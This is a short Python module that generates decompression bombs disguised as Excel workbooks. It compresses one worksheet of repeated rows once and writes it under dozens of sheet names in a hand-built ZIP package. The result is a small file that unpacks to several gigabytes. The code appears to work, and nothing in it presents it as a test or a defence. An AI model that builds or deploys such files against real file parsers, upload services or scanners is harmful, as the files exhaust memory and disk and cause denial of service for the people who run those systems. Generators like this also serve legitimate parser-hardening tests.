"""Workbooks that are small on the way and enormous when unpacked. Valid, but for their size.

Every part is compressed once and written many times, so that making one takes no time.
"""

import struct
import zlib
from dataclasses import dataclass

MEGABYTE = 2**20
SHEET = "xl/worksheets/sheet{number}.xml"
ROW = b"<row><c><v>1</v></c></row>"


@dataclass(frozen=True, slots=True)
class Part:
    """One part of a package: its bytes compressed, and what its headers say of them."""

    packed: bytes
    size: int
    crc: int

    @classmethod
    def of(cls, content: bytes) -> "Part":
        """Return some content as a part."""
        packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
        return cls(packer.compress(content) + packer.flush(), len(content), zlib.crc32(content))

    def header(self, name: bytes) -> bytes:
        """Return what both headers have in common."""
        sizes = (self.crc, len(self.packed), self.size, len(name), 0)
        return struct.pack("<HHHHHLLLHH", 20, 0, zlib.DEFLATED, 0, 33, *sizes)


def bomb(*, sheets: int = 48, megabytes: int = 64) -> bytes:
    """Return a workbook of so many sheets, each with so many megabytes of rows."""
    rows = ROW * (megabytes * MEGABYTE // len(ROW))
    return package([SHEET.format(number=number) for number in range(1, sheets + 1)], Part.of(rows))


def package(names: list[str], part: Part) -> bytes:
    """Return a package in which every name has the same content."""
    files, directory = bytearray(), bytearray()
    for name in map(str.encode, names):
        begin, header = len(files), part.header(name)
        files += b"PK\x03\x04" + header + name + part.packed
        directory += b"PK\x01\x02" + struct.pack("<H", 20) + header
        directory += struct.pack("<HHHLL", 0, 0, 0, 0, begin) + name
    count = min(len(names), 0xFFFF)
    end = struct.pack("<HHHHLLH", 0, 0, count, count, len(directory), len(files), 0)
    return bytes(files + directory + b"PK\x05\x06" + end)
